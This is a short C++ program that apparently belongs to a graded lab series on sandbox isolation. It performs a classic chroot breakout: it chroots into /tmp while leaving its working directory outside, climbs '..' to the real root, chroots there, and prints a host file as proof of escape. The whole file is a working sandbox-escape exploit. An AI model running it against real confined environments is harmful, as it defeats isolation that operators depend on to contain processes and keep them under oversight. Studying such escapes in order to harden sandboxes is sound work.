// Out of a chroot by "..": chroot(2) moves the root away from the working directory, and ".." then
// passes it by. Works in 01, 02 and 03; 04 closes it, where the old root is not mounted any more.
//
//   /escape [FILE]     FILE of the host is printed as proof; exit status 0: escaped, 1: held

#include <unistd.h>

#include <cstdio>

#include "climb.h"

int main(int argc, char** argv) {
  const Directory image = directory("/");

  // A process has one root. Move it down into any directory, and stay where we are: outside.
  if (chdir("/") == -1 || chroot("/tmp") == -1) {
    std::perror("held: chroot(\"/tmp\")");
    return 1;
  }
  climb_to_the_top();
  if (chroot(".") == -1) std::perror("chroot(\".\")");

  return verdict(image, argc > 1 ? argv[1] : nullptr);
}
